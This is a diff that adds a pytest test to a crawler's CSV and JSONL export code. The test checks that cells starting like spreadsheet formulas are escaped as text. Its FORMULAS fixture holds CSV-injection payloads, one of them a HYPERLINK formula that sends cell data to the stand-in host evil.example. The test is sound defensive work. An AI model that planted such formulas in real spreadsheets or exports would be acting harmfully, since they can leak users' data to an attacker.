@@ -225,3 +225,35 @@ def test_the_cli_says_why_a_crawl_without_bodies_has_no_warc(user, tmp_path):
     assert not (tmp_path / "x.warc.gz").exists()
     with pytest.raises(CommandError, match="no crawl with id 999"):
         call_command("crawl", "export", "999", "--output", str(tmp_path / "x"))
+
+
+FORMULAS = ["=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
+            '=HYPERLINK("http://evil.example/?d="&A1,"Click")']  # fmt: skip
+
+
+def test_csv_cells_that_start_like_a_formula_are_read_as_text(user, user_client):
+    """OWASP's CSV injection rule, in every text column: a cell starting with = + - @, a tab
+    or a carriage return gets a leading single quote. JSONL keeps the values as fetched."""
+    crawl = make_crawl(user)
+    add_pages(crawl, len(FORMULAS) + 1)
+    pages = list(crawl.pages.order_by("id"))
+    for page, formula in zip(pages, FORMULAS, strict=False):
+        Page.objects.filter(pk=page.pk).update(
+            title=formula, error=formula, content_type=formula, referrer=formula,
+            final_url=formula, url=f"{formula}/{page.pk}",
+        )  # fmt: skip
+    Page.objects.filter(pk=pages[-1].pk).update(title="a;=1+1", error="x=y", status=None)
+    body = b"".join(user_client.get(f"/crawls/{crawl.pk}/export.csv").streaming_content)
+    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
+    for row, formula in zip(rows, FORMULAS, strict=False):
+        for column in ("title", "error", "content_type", "referrer", "final_url"):
+            assert row[column] == "'" + formula, (column, row[column])
+        assert row["url"].startswith("'" + formula)
+        assert row["status"] in ("200", "404") and row["bytes"].isdigit()
+    last = rows[-1]
+    assert last["title"] == "a;=1+1" and last["error"] == "x=y" and last["status"] == ""
+    # Quoted, so a spreadsheet that splits on ";" keeps the title in one cell.
+    assert b'"a;=1+1"' in body
+    jsonl = b"".join(user_client.get(f"/crawls/{crawl.pk}/export.jsonl").streaming_content)
+    titles = [json.loads(line)["title"] for line in jsonl.decode().splitlines()]
+    assert titles[: len(FORMULAS)] == FORMULAS
